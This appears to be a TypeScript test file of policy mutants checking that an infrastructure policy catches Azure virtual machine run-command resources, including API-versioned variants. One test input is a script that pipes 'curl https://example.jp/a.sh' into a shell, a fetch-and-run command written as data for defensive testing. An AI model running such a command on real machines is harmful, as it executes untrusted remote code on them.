import type { PolicyMutants } from '../support/policy-mutants';
import { addition, made, other } from '../support/rows';
import { machineType, scaleSetType } from '../support/scale-set';

const commands = [
  'azure-native:compute:VirtualMachineRunCommandByVirtualMachine',
  'azure-native:compute:VirtualMachineScaleSetVMRunCommand',
  'azure-native:hybridcompute:MachineRunCommand',
];

export const mutants: PolicyMutants = {
  broken: [
    addition((world) =>
      commands.flatMap((type) =>
        world.ofType(machineType).flatMap(({ name, inputs }) =>
          ['id', 'curl https://example.jp/a.sh | sh', ''].map((script, index) =>
            made(type, `${name}-command-${index}`, {
              resourceGroupName: inputs['resourceGroupName'],
              vmName: inputs['vmName'],
              source: { script },
            }),
          ),
        ),
      ),
    ),
    // In an API version of its own it is a run command all the same.
    addition(() =>
      commands.map((type) =>
        made(type.replace(/^azure-native:(\w+):/, 'azure-native:$1/v20240701:'), 'versioned', {}),
      ),
    ),
  ],
  harmless: [other({ of: machineType, path: 'hardwareProfile.vmSize', to: ['Standard_D4as_v5'] })],
  unbroken: [{ of: [machineType, scaleSetType], paths: [''], because: 'a machine itself is no run command' }],
};
